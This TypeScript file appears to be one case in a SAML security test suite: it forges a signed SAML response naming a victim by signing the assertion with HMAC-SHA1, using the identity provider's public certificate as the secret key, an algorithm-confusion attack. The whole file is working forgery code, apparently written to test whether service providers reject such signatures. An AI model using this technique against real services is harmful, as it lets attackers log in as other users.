import { SignedXml } from 'xml-crypto'
import type { SamlAttack } from '../saml-attack.ts'
import { writeAnswer } from '../saml-provider.ts'

const HMAC = 'http://www.w3.org/2000/09/xmldsig#hmac-sha1'
const EXCLUSIVE = 'http://www.w3.org/2001/10/xml-exc-c14n#'
const ASSERTION = "/*[local-name(.)='Response']/*[local-name(.)='Assertion']"

/** Everybody has the certificate. */
export const attack: SamlAttack = {
  name: 'a signature by HMAC, the certificate as its key',
  reason: 'algorithm',
  forge: ({ values, signer, victim }) => {
    const signed = new SignedXml({
      privateKey: Buffer.from(signer.certificate),
      signatureAlgorithm: HMAC,
      canonicalizationAlgorithm: EXCLUSIVE,
    })
    signed.enableHMAC()
    signed.addReference({
      xpath: ASSERTION,
      transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', EXCLUSIVE],
      digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256',
    })
    const location = { reference: `${ASSERTION}/*[local-name(.)='Issuer']`, action: 'after' } as const
    signed.computeSignature(writeAnswer({ ...values, nameId: victim }), { location })
    return signed.getSignedXml()
  },
}
